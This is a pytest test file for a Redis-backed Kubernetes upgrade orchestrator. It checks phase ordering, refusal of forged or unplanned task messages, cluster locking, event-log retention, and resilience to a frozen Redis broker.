@pytest.mark.parametrize("flushed", [False, True])
def test_a_refresh_reads_what_changed_and_a_sweep_slice_in_one_round_trip(redis_url, flushed, monkeypatch):
    # What a dispatcher tick reads of a hop: the entries the store wrote since, then a slice of
    # the sweep over all of them (which also meets hand edits and deletions). In one pipeline;
    # with the script lost (a restarted Redis) it still returns both, the newer text last.
    from kubeupgrade.workflow.record import HopEntries
    from tests.helpers import spy_on_redis

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    nodes = [f"w{i}" for i in range(40)]
    for node in nodes:
        add_entry(store, campaign, node)
    hop = HopEntries(store, campaign, 0)
    hop.read_all()
    store.changed_entry_texts(campaign, 0)  # the script loaded, as in a dispatcher that has ticked before
    written = ["w3", "w10", "w20", "w30"]
    for node in written:
        store.update_entry(campaign, 0, node, lambda entry: entry.update(state="running") or True)
    edited = json.loads(store.redis.hget(f"ku:c:{campaign}:hop:0", "w5"))
    edited["state"] = "failed"
    store.redis.hset(f"ku:c:{campaign}:hop:0", "w5", json.dumps(edited))  # bypasses the store
    store.redis.hdel(f"ku:c:{campaign}:hop:0", "w6")  # deleted by hand
    if flushed:
        store.redis.script_flush()
    _, pipelines = spy_on_redis(monkeypatch)
    assert hop.refresh(1) is False  # a slice of about one entry, not yet a whole pass
    assert all(hop.entries[node]["state"] == "running" for node in written)  # what the store wrote: at once
    while not hop.refresh(5):
        pass
    monkeypatch.undo()
    assert hop.entries == store.entries(campaign, 0)
    assert "w6" not in hop.entries and hop.entries["w5"]["state"] == "failed"
    assert all(p == ["EVALSHA", "HSCAN"] for p in pipelines), pipelines


@pytest.mark.parametrize("earlier", ["pending", "running", "failed"])
def test_a_phase_ahead_of_the_nodes_order_is_refused_and_nothing_is_written(redis_url, earlier):
    # A node's phases run in the order they are listed, whatever a message asks: an uncordon
    # delivered while the drain before it is not done (sent by hand, or forged with a key
    # allowed to sign for the controller's queue) must not release a node still being drained.
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    store.update(campaign, lambda doc: doc.update(state="running", hops=[{"target": "1.31"}]))
    phases = [new_phase(p) for p in ("drain", "install-kubelet", "uncordon")]
    phases[0]["state"] = earlier
    store.put_entry(campaign, 0, "w1", {"node": "w1", "role": "worker", "hop": 0, "state": "running",
                                        "attempt": 1, "phases": phases})
    before = store.entry(campaign, 0, "w1")
    assert store.begin_phase(campaign, 0, "w1", "uncordon", 1, "forged") == "out-of-order"
    assert store.begin_phase(campaign, 0, "w1", "install-kubelet", 1, "forged") == "out-of-order"
    assert store.entry(campaign, 0, "w1") == before
    events = [e["message"] for e in store.events(campaign)]
    assert any("uncordon refused, nothing run: drain is not done" in m for m in events), events
    # In order, each runs once the one before it is done.
    if earlier != "failed":
        store.update_entry(campaign, 0, "w1", lambda entry: entry["phases"][0].update(state="succeeded"))
        assert begin_sent(store, campaign, 0, "w1", "install-kubelet", 1, "task-2") == "run"
        assert store.begin_phase(campaign, 0, "w1", "uncordon", 1, "forged") == "out-of-order"


@pytest.mark.parametrize("phase", ["kubeadm-upgrade-apply", "uncordon", "etcd-snapshot"])
def test_a_phase_the_nodes_plan_does_not_have_is_refused_named_and_writes_nothing(redis_url, phase):
    # A control plane other than the first asked for `kubeadm upgrade apply`, a worker for a
    # control plane's step: a deterministic answer, as for any message the plan does not call
    # for, not a KeyError out of the task (a traceback in Flower that names no rule).
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    written = store.redis.hget(f"ku:c:{campaign}:hop:0", "w1")
    assert store.begin_phase(campaign, 0, "w1", phase, 1, "forged") == "unplanned"
    assert store.redis.hget(f"ku:c:{campaign}:hop:0", "w1") == written
    events = [e["message"] for e in store.events(campaign)]
    assert f"w1: a task for {phase} refused, nothing run: the plan of w1 has no {phase} phase" in events
    # Fencing is judged first: a message of an earlier attempt is stale, whatever it asks.
    assert store.begin_phase(campaign, 0, "w1", phase, 7, "forged") == "stale"


def test_a_task_the_dispatcher_did_not_send_runs_nothing_and_is_named(redis_url):
    """Only the dispatcher decides when a phase runs: it records each task's id before sending
    it. A message under another id, or for a phase it has sent nothing for yet (a worker whose
    outage the window has no room for), however well signed, runs nothing and writes nothing
    but an event naming it; the task the dispatcher sent then runs as ever."""
    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    written = store.redis.hget(f"ku:c:{campaign}:hop:0", "w1")
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "forged-1") == "unsent"  # nothing sent yet
    assert store.redis.hget(f"ku:c:{campaign}:hop:0", "w1") == written

    def send(entry):
        entry["phases"][0].update(task_id="sent-1", dispatched=1.0)

    store.update_entry(campaign, 0, "w1", send)
    written = store.redis.hget(f"ku:c:{campaign}:hop:0", "w1")
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "forged-2") == "unsent"
    assert store.redis.hget(f"ku:c:{campaign}:hop:0", "w1") == written
    events = [event["message"] for event in store.events(campaign)]
    assert "w1: a task for drain refused, nothing run: the dispatcher did not send task forged-1 " \
           "(none is sent yet)" in events
    assert "w1: a task for drain refused, nothing run: the dispatcher did not send task forged-2 " \
           "(it sent sent-1)" in events
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "sent-1") == "run"
    # Running: a redelivery of the same task runs again (its phases are idempotent), another
    # id does not take it over.
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "forged-3") == "unsent"
    assert store.entry(campaign, 0, "w1")["phases"][0]["task_id"] == "sent-1"
    assert store.begin_phase(campaign, 0, "w1", "drain", 1, "sent-1") == "run"


def test_a_submitter_waiting_for_acceptance_is_woken_when_the_campaign_leaves_pending(redis_url):
    import time

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    key = f"ku:c:{campaign}:decided"
    store.update(campaign, lambda doc: doc.update(notes=["still pending"]))
    assert not store.redis.exists(key)  # nothing decided yet
    started = time.monotonic()
    store.wait_decided(campaign, 0.3)  # no wake: it waits its time out
    assert time.monotonic() - started >= 0.25

    def accept_soon():
        time.sleep(0.2)
        store.update(campaign, lambda doc: doc.update(state="running"))

    accepting = threading.Thread(target=accept_soon)
    accepting.start()
    started = time.monotonic()
    store.wait_decided(campaign, 30.0)
    assert time.monotonic() - started < 15.0  # woken by the acceptance, not by its timeout
    accepting.join()
    store.update(campaign, lambda doc: doc.update(notes=["running on"]))
    assert not store.redis.exists(key)  # only the way out of pending wakes; the wake was taken
    other = store.create("prod-2", {"cluster": "prod-2", "target": "1.31"}, "b.yaml")
    store.update(other, lambda doc: doc.update(state="refused", error={"message": "no"}))
    assert 0 < store.redis.ttl(f"ku:c:{other}:decided") <= 60  # left by nobody waiting: it expires


def test_waiting_on_a_campaign_rides_out_a_frozen_broker(tmp_path):
    """`CampaignHandle.wait` (what `submit --wait` and scripts use) while redis-server is frozen
    (SIGSTOP: connects complete, no answer within the client's socket timeout) keeps waiting,
    as it does through a restart, and returns the state once the broker answers: not a
    TimeoutError traceback (the soak's freeze-redis fault met it)."""
    import os
    import signal
    import time

    from kubeupgrade.api import CampaignHandle
    from kubeupgrade.sandbox.processes import free_port
    from tests.helpers import start_redis_server

    port = free_port()
    server = start_redis_server(port, tmp_path)
    try:
        url = f"redis://127.0.0.1:{port}/0"
        store = CampaignStore.from_url(url)
        campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "c.yaml")
        store.update(campaign, lambda doc: doc.update(state="running"))
        handle = CampaignHandle(campaign, url)
        handle.state()  # connected before the freeze

        def freeze_then_finish():
            os.kill(server.pid, signal.SIGSTOP)
            # Past the client's own retries (redis-py tries a timed-out command again, each try
            # waiting out the 5 s socket timeout): what the soak met was a 5 to 30 s freeze.
            time.sleep(28)
            os.kill(server.pid, signal.SIGCONT)
            store.update(campaign, lambda doc: doc.update(state="succeeded"))

        freezer = threading.Thread(target=freeze_then_finish)
        freezer.start()
        assert handle.wait(timeout=90, interval=0.2) == "succeeded"
        freezer.join()
    finally:
        os.kill(server.pid, signal.SIGCONT)
        server.kill()
        server.wait(5)


def _keys_of(store: CampaignStore, campaign_id: str) -> list[str]:
    return sorted(store.redis.scan_iter(f"ku:c:{campaign_id}*"))


@pytest.mark.parametrize("gone_by", ["broker emptied", "retention", "never created"])
def test_an_event_for_a_campaign_whose_record_is_gone_leaves_no_key(redis_url, gone_by):
    """A phase still running for a campaign the broker lost (or retention archived) tells its
    retry as an event: it must not leave an event log that no record names and nothing expires."""
    store = store_for(redis_url)
    campaign_id = store.create("c1", {"cluster": "c1", "target": "1.31"}, "c1.yaml")
    assert store.event(campaign_id, "worker-1: drain running")
    assert [e["message"] for e in store.events(campaign_id, 2)] == [
        "worker-1: drain running", "campaign submitted from c1.yaml"]
    if gone_by == "broker emptied":
        store.redis.flushdb()
    elif gone_by == "retention":
        store.delete_campaign(campaign_id)
    else:
        campaign_id = "c-" + "0" * 12
    assert not store.event(campaign_id, "cp-2: upgrade-control-plane retrying in 2s: kubeadm failed")
    assert _keys_of(store, campaign_id) == []


def test_the_event_log_keeps_the_newest_events(redis_url):
    store = store_for(redis_url)
    campaign_id = store.create("c2", {"cluster": "c2", "target": "1.31"}, "c2.yaml")
    for n in range(EVENTS_KEPT + 7):
        store.event(campaign_id, f"event {n}")
    kept = store.redis.llen(f"ku:c:{campaign_id}:events")
    assert kept == EVENTS_KEPT
    assert store.events(campaign_id, 1)[0]["message"] == f"event {EVENTS_KEPT + 6}"


def test_a_campaign_id_carries_the_time_in_utc_whatever_the_submitters_zone(redis_url, monkeypatch):
    import re
    import time

    monkeypatch.setenv("TZ", "Pacific/Kiritimati")  # UTC+14: the local date is a day ahead
    time.tzset()
    try:
        before = time.time()
        campaign_id = store_for(redis_url).create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
        after = time.time()
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    stamp = re.fullmatch(r"prod-(\d{8}-\d{6})-[0-9a-f]{6}", campaign_id).group(1)
    utc = {time.strftime("%Y%m%d-%H%M%S", time.gmtime(t)) for t in (before, after)}
    assert stamp in utc, (stamp, utc)


def test_an_ended_campaign_written_back_to_running_acts_no_more_while_another_holds_the_cluster(redis_url):
    """One campaign acts on a cluster at a time, whatever the record says: an aborted campaign
    whose record is written back to running (a node's broker credential is enough), while
    another campaign holds the cluster, is failed naming the holder, and no phase of it runs."""
    from kubeupgrade.errors import PermanentError
    from kubeupgrade.model.plan import Phase
    from kubeupgrade.workflow.app import client_app
    from kubeupgrade.workflow.dispatcher import Dispatcher
    from kubeupgrade.workflow.phase import Job, read_record, require_cluster_held
    from kubeupgrade.workflow.waiting import first_look

    store = store_for(redis_url)
    first = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, first)
    store.update(first, lambda doc: doc.update(state="aborted"))
    store.end(first, "prod")
    second = store.create("prod", {"cluster": "prod", "target": "1.31"}, "b.yaml")
    store.redis.set(f"ku:c:{first}", json.dumps({**store.get(first), "state": "running"}))
    store.redis.sadd("ku:active", first)

    def job(campaign: str) -> Job:
        return Job(store, campaign, 0, "w1", Phase.DRAIN, 1, "task-1", read_record(store, campaign),
                   first_look("task-1", 0))

    with pytest.raises(PermanentError, match=f"campaign {first} does not hold cluster prod "
                                             f"\\(held by {second}\\).*nothing run"):
        require_cluster_held(job(first))
    Dispatcher(client_app(redis_url), store).advance(first)
    doc = store.get(first)
    assert doc["state"] == "failed"
    assert doc["error"]["message"].startswith(
        f"the record says this campaign is running, but cluster prod is held by campaign {second}")
    assert first not in store.active_ids()
    assert store.cluster_holder("prod") == second and store.get(second)["state"] == "pending"
    assert not any(p["task_id"] for p in store.entry(first, 0, "w1")["phases"])


def test_a_running_campaign_whose_cluster_lock_is_gone_takes_it_back(redis_url):
    from kubeupgrade.workflow.app import client_app
    from kubeupgrade.workflow.dispatcher import Dispatcher

    store = store_for(redis_url)
    campaign = store.create("prod", {"cluster": "prod", "target": "1.31"}, "a.yaml")
    add_entry(store, campaign)
    store.redis.delete("ku:cluster:prod")
    assert Dispatcher(client_app(redis_url), store)._holds_cluster(store.get(campaign))
    assert store.cluster_holder("prod") == campaign
    assert any("cluster prod's lock was gone" in e["message"] for e in store.events(campaign))
